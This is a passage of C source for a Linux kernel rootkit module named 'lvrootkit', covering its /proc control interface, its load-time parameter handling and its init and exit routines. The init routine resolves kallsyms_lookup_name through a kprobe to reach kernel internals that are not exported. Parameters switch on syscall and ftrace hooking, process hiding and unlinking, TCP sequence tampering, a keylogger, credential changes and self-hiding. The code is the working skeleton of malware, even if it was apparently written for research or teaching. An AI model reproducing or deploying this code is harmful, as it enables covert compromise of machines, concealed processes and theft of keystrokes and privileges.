	seq_printf(m, "flag_pid %d", rk_fl_nr);
	if (rk_fl_task)
		seq_printf(m, " task=%px flags=%#x", rk_fl_task, rk_fl_task->flags);
	seq_puts(m, "\n");
	mutex_unlock(&rk_lock);
	return 0;
}

static int rk_proc_open(struct inode *inode, struct file *file)
{
	return single_open(file, rk_proc_show, NULL);
}

static const struct proc_ops rk_proc_ops = {
	.proc_open = rk_proc_open,
	.proc_read = seq_read,
	.proc_lseek = seq_lseek,
	.proc_release = single_release,
	.proc_write = rk_proc_write,
};

/* ---- load and unload ------------------------------------------------------ */

static void rk_plant_param(const char *what, int value)
{
	char line[48];
	int rc;

	if (!value)
		return;
	snprintf(line, sizeof(line), "plant %s %d", what, value);
	rc = rk_command(line);
	if (rc)
		pr_warn("lvrootkit: %s=%d: %d\n", what, value, rc);
}

/*
 * Parameters are planted once the module is live: do_init_module still
 * works on the module (mod_tree, sysfs uevent) after init returns.
 */
static void rk_params_fn(struct work_struct *work)
{
	int waited;

	for (waited = 0; THIS_MODULE->state != MODULE_STATE_LIVE && waited < 2000; waited++)
		msleep(5);
	rk_plant_param("syscalls", syscalls);
	rk_plant_param("ftrace", ftrace);
	rk_plant_param("hide_pid", hide_pid);
	rk_plant_param("unlink_pid", unlink_pid);
	rk_plant_param("tcp_seq", tcp_seq);
	rk_plant_param("keylogger", keylogger);
	rk_plant_param("cred_pid", cred_pid);
	rk_plant_param("flag_pid", flag_pid);
	rk_plant_param("hide", hide);
}

static DECLARE_WORK(rk_params_work, rk_params_fn);
static struct proc_dir_entry *rk_proc;

static int __init rk_init(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int rc = register_kprobe(&probe);

	if (rc < 0) {
		pr_err("lvrootkit: cannot locate kallsyms_lookup_name (kprobe: %d)\n", rc);
		return rc;
	}
	rk_lookup = (lookup_fn)probe.addr;
	unregister_kprobe(&probe);
	if (!rk_lookup)
		return -ENOENT;
	rk_proc = proc_create("lvrootkit", 0600, NULL, &rk_proc_ops);
	if (!rk_proc)
		return -ENOMEM;
	schedule_work(&rk_params_work);
	return 0;
}

static void __exit rk_exit(void)
{
	cancel_work_sync(&rk_params_work);
	proc_remove(rk_proc);
	mutex_lock(&rk_lock);
	rk_undo("all");
	if (rk_ft_filtered)
		ftrace_free_filter(&rk_ft_ops);
	mutex_unlock(&rk_lock);
}

module_init(rk_init);
module_exit(rk_exit);
